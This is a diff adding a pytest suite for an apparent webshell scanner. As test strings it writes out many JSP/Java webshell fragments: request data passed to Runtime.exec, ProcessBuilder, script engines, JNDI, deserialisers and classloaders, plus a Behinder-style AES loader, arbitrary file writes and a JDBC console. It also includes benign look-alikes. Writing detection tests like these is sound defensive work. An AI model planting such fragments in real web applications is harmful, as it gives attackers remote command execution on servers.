@@ -1,0 +1,269 @@
+"""Near variants of the JSP/Java behaviours the reader knows: each way of getting request bytes, each
+spelling of a sink (exec, script engines, class definition, reflection with built names, JNDI, method
+handles, deserialisers, file writes, JDBC consoles), so that a shell is caught by what it does and not
+by the way one sample spelled it. Benign look-alikes (an upload servlet, a JDBC DAO, an admin page with
+a fixed command, a reflective plugin loader) stay below the threshold. Every sample is written here."""
+
+import pytest
+
+from agent.imagegate import webshell
+from agent.imagegate.webshell import THRESHOLD
+
+
+def hits(text, name="x.jsp"):
+    return webshell.scan(name, text.encode())
+
+
+def assert_shell(text, name="x.jsp"):
+    hs = hits(text, name)
+    assert webshell.is_shell(hs), hs
+    h = hs[0]
+    assert h.confidence >= THRESHOLD and h.snippet and len(h.snippet) <= 240
+    return h
+
+
+def assert_benign(text, name="x.jsp"):
+    hs = hits(text, name)
+    assert not webshell.is_shell(hs), hs
+
+
+# Ways a page gets request bytes or text, as an expression of type String.
+SOURCES = {
+    "param": 'request.getParameter("c")',
+    "header": 'request.getHeader("X-Token")',
+    "query": 'java.net.URLDecoder.decode(request.getQueryString(), "UTF-8")',
+    "cookie": 'request.getCookies()[0].getValue()',
+    "values": 'request.getParameterValues("c")[0]',
+    "map": '((String[]) request.getParameterMap().get("c"))[0]',
+    "reader": 'request.getReader().readLine()',
+    "stream": 'new String(request.getInputStream().readAllBytes())',
+    "scanner": 'new java.util.Scanner(request.getInputStream()).useDelimiter("\\\\A").next()',
+    "part": 'new String(request.getPart("f").getInputStream().readAllBytes())',
+    "renamed": '((javax.servlet.http.HttpServletRequest) pageContext.getRequest()).getParameter("c")',
+    "base64": 'new String(java.util.Base64.getDecoder().decode(request.getParameter("c")))',
+    "attr": 'String.valueOf(request.getParameter("c"))',
+}
+
+# Sinks that run a String of code or a command.
+SINKS = {
+    "exec": "Runtime.getRuntime().exec(x);",
+    "exec-array": 'Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", x});',
+    "exec-split": 'Runtime.getRuntime().exec(x.split(" "));',
+    "rt-var": "Runtime rt = Runtime.getRuntime(); Process p = rt.exec(x);",
+    "pb": 'new ProcessBuilder("/bin/sh", "-c", x).start();',
+    "pb-list": 'java.util.List<String> l = new java.util.ArrayList<String>(); l.add("sh"); l.add("-c"); l.add(x);'
+               ' ProcessBuilder pb = new ProcessBuilder(l); pb.redirectErrorStream(true); Process p = pb.start();',
+    "pb-command": 'ProcessBuilder pb = new ProcessBuilder(); pb.command("cmd.exe", "/c", x); pb.start();',
+    "pb-array": 'String[] a = {"bash", "-c", x}; Process p = new ProcessBuilder(a).start();',
+    "script": 'new javax.script.ScriptEngineManager().getEngineByName("js").eval(x);',
+    "script-ext": 'javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByExtension("js");'
+                  ' e.eval(x);',
+    "el": "new javax.el.ELProcessor().eval(x);",
+    "spel": "new org.springframework.expression.spel.standard.SpelExpressionParser().parseExpression(x).getValue();",
+    "groovy": "new groovy.lang.GroovyShell().evaluate(x);",
+    "ognl": "ognl.Ognl.getValue(x, null);",
+    "reflect-built": 'Class c = Class.forName("java.lang." + "Run" + "time");'
+                     ' Object r = c.getMethod("get" + "Runtime").invoke(null);'
+                     ' c.getMethod("ex" + "ec", String.class).invoke(r, x);',
+    "reflect-class": 'java.lang.reflect.Method m = Runtime.class.getMethod("exec", String.class);'
+                     ' m.invoke(Runtime.getRuntime(), x);',
+    "method-handle": 'java.lang.invoke.MethodHandle h = java.lang.invoke.MethodHandles.lookup().findVirtual('
+                     'Runtime.class, "exec", java.lang.invoke.MethodType.methodType(Process.class, String.class));'
+                     ' h.invoke(Runtime.getRuntime(), x);',
+    "jndi": "new javax.naming.InitialContext().lookup(x);",
+    "xmldecoder": "new java.beans.XMLDecoder(new java.io.ByteArrayInputStream(x.getBytes())).readObject();",
+    "yaml": "new org.yaml.snakeyaml.Yaml().load(x);",
+    "ois": "new java.io.ObjectInputStream(new java.io.ByteArrayInputStream("
+           "java.util.Base64.getDecoder().decode(x))).readObject();",
+    "jshell": "jdk.jshell.JShell.create().eval(x);",
+}
+
+
+@pytest.mark.parametrize("src", sorted(SOURCES))
+def test_every_source_reaches_exec(src):
+    assert_shell(f"<% String x = {SOURCES[src]}; Runtime.getRuntime().exec(x); %>")
+
+
+@pytest.mark.parametrize("sink", sorted(SINKS))
+def test_every_sink_spelling_with_a_parameter(sink):
+    assert_shell(f'<%@ page import="java.util.*" %><% String x = request.getParameter("c"); {SINKS[sink]} %>')
+
+
+@pytest.mark.parametrize("sink", ["exec", "pb", "script", "reflect-built", "jndi"])
+def test_sinks_with_a_header_source_in_a_servlet(sink):
+    java = ("package x; import javax.servlet.http.*; public class S extends HttpServlet {"
+            " protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws Exception {"
+            f' String x = req.getHeader("X-C"); {SINKS[sink]} }} }}')
+    assert_shell(java, "S.java")
+
+
+def test_jspx_form():
+    assert_shell('<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>'
+                 'String x = request.getParameter("c"); new ProcessBuilder("sh", "-c", x).start();'
+                 "</jsp:scriptlet></jsp:root>", "x.jspx")
+
+
+# --- class loading from request bytes --------------------------------------------------------
+
+LOADERS = {
+    "subclass": 'class U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte[] b) {'
+                " return super.defineClass(b, 0, b.length); } }",
+    "secure": "class U extends java.security.SecureClassLoader { public Class g(byte[] b) {"
+              " return defineClass(null, b, 0, b.length); } }",
+}
+
+
+@pytest.mark.parametrize("loader", sorted(LOADERS))
+@pytest.mark.parametrize("src", ["param", "reader", "stream"])
+def test_class_defined_from_request_bytes(loader, src):
+    body = {"param": 'java.util.Base64.getDecoder().decode(request.getParameter("p"))',
+            "reader": "new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine())",
+            "stream": "request.getInputStream().readAllBytes()"}[src]
+    assert_shell(f"<%! {LOADERS[loader]} %><% new U(this.getClass().getClassLoader()).g({body}).newInstance(); %>")
+
+
+def test_url_class_loader_from_request():
+    assert_shell('<% java.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{'
+                 'new java.net.URL(request.getParameter("u"))}); l.loadClass(request.getParameter("c"))'
+                 '.newInstance(); %>')
+
+
+def test_reflective_define_class():
+    assert_shell('<% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("k"));'
+                 ' java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("define" + "Class",'
+                 ' byte[].class, int.class, int.class); m.setAccessible(true);'
+                 ' ((Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length))'
+                 '.newInstance(); %>')
+
+
+def test_unsafe_define_anonymous_class():
+    assert_shell('<% java.lang.reflect.Field f = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");'
+                 ' f.setAccessible(true); sun.misc.Unsafe u = (sun.misc.Unsafe) f.get(null);'
+                 ' byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("k"));'
+                 ' u.defineAnonymousClass(String.class, b, null).newInstance(); %>')
+
+
+def test_aes_loader_behinder_shape():
+    assert_shell('<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{'
+                 "U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%"
+                 'if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);'
+                 'Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));'
+                 "new U(this.getClass().getClassLoader()).g(c.doFinal(Base64.getDecoder().decode("
+                 "request.getReader().readLine()))).newInstance().equals(pageContext);}%>")
+
+
+# --- file writes and consoles ------------------------------------------------------------------
+
+WRITES = {
+    "fos": 'java.io.FileOutputStream o = new java.io.FileOutputStream(application.getRealPath("/") +'
+           ' request.getParameter("f")); o.write(request.getParameter("d").getBytes()); o.close();',
+    "writer": 'java.io.FileWriter w = new java.io.FileWriter(request.getParameter("f"));'
+              ' w.write(request.getParameter("d")); w.close();',
+    "nio": 'java.nio.file.Files.write(java.nio.file.Paths.get(request.getParameter("f")),'
+           ' java.util.Base64.getDecoder().decode(request.getParameter("d")));',
+    "printwriter": 'java.io.PrintWriter w = new java.io.PrintWriter(request.getParameter("f"));'
+                   ' w.println(request.getParameter("d")); w.close();',
+}
+
+
+@pytest.mark.parametrize("w", sorted(WRITES))
+def test_request_data_written_to_a_request_path(w):
+    assert_shell(f"<% {WRITES[w]} %>")
+
+
+def test_part_written_to_a_request_path():
+    assert_shell('<% javax.servlet.http.Part p = request.getPart("file");'
+                 ' p.write(application.getRealPath("/") + request.getParameter("path")); %>')
+
+
+def test_jdbc_console():
+    assert_shell('<%@ page import="java.sql.*" %><% Class.forName(request.getParameter("driver"));'
+                 ' Connection c = DriverManager.getConnection(request.getParameter("url"),'
+                 ' request.getParameter("user"), request.getParameter("pass"));'
+                 ' ResultSet rs = c.createStatement().executeQuery(request.getParameter("sql"));'
+                 ' while (rs.next()) out.println(rs.getString(1)); %>')
+
+
+# --- benign look-alikes --------------------------------------------------------------------------
+
+def test_benign_upload_servlet():
+    assert_benign("""package org.example.web;
+import java.io.*; import java.util.UUID; import javax.servlet.http.*;
+public class UploadServlet extends HttpServlet {
+  protected void doPost(HttpServletRequest req, HttpServletResponse resp) throws IOException, javax.servlet.ServletException {
+    Part part = req.getPart("file");
+    String name = part.getSubmittedFileName();
+    if (!name.toLowerCase().endsWith(".png")) { resp.sendError(400); return; }
+    File dir = new File(getServletContext().getRealPath("/uploads"));
+    File out = new File(dir, UUID.randomUUID() + ".png");
+    try (InputStream in = part.getInputStream(); OutputStream o = new FileOutputStream(out)) { in.transferTo(o); }
+    resp.getWriter().println("ok " + out.getName());
+  }
+}""", "UploadServlet.java")
+
+
+def test_benign_jdbc_dao():
+    assert_benign("""package org.example.dao;
+import java.sql.*; import javax.servlet.http.*;
+public class OwnerDao {
+  private final DataSource ds;
+  public Owner find(HttpServletRequest request) throws SQLException {
+    String id = request.getParameter("id");
+    try (Connection c = ds.getConnection();
+         PreparedStatement ps = c.prepareStatement("SELECT * FROM owners WHERE id = ?")) {
+      ps.setString(1, id);
+      ResultSet rs = ps.executeQuery();
+      return rs.next() ? new Owner(rs.getString("name")) : null;
+    }
+  }
+}""", "OwnerDao.java")
+
+
+def test_benign_admin_page_fixed_command():
+    assert_benign('<%@ page import="java.io.*" %><% String who = request.getParameter("who");'
+                  ' Process p = Runtime.getRuntime().exec(new String[]{"uptime"});'
+                  ' BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));'
+                  ' out.println("hello " + org.owasp.encoder.Encode.forHtml(who) + ": " + r.readLine()); %>')
+
+
+def test_benign_page_with_el_and_params():
+    assert_benign('<%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %><html><body>'
+                  '<c:out value="${param.name}"/> ${fn:escapeXml(param.q)} <% String q = request.getParameter("q");'
+                  ' session.setAttribute("q", q); request.getRequestDispatcher("/search.jsp").forward(request,'
+                  " response); %></body></html>")
+
+
+def test_benign_plugin_loader_by_configured_name():
+    assert_benign("""package org.example;
+public class Plugins {
+  public Object load(javax.servlet.ServletConfig cfg) throws Exception {
+    String name = cfg.getInitParameter("plugin");
+    return Class.forName(name).getDeclaredConstructor().newInstance();
+  }
+}""", "Plugins.java")
+
+
+def test_benign_jndi_datasource():
+    assert_benign('<% javax.naming.Context ctx = new javax.naming.InitialContext();'
+                  ' javax.sql.DataSource ds = (javax.sql.DataSource) ctx.lookup("java:comp/env/jdbc/app");'
+                  ' String id = request.getParameter("id"); %>')
+
+
+def test_benign_upload_page_saving_the_part_under_its_own_name():
+    assert_benign('<% javax.servlet.http.Part part = request.getPart("file");'
+                  ' String dir = application.getRealPath("/uploads");'
+                  ' part.write(dir + java.io.File.separator + part.getSubmittedFileName());'
+                  ' out.write("saved " + request.getParameter("note")); %>')
+
+
+def test_jndi_lookup_of_a_request_name_on_a_variable_context():
+    assert_shell('<% javax.naming.Context ctx = new javax.naming.InitialContext();'
+                 ' ctx.lookup(request.getParameter("n")); %>')
+
+
+def test_benign_lookup_of_a_request_name_in_the_environment_context():
+    # a JNDI browser over java:comp/env (names there resolve locally, never to a remote class)
+    assert_benign('<% String n = request.getParameter("jndiName");'
+                  ' javax.naming.Context init = new javax.naming.InitialContext();'
+                  ' javax.naming.Context env = (javax.naming.Context) init.lookup("java:comp/env");'
+                  ' Object o = env.lookup(n); out.println(o); %>')
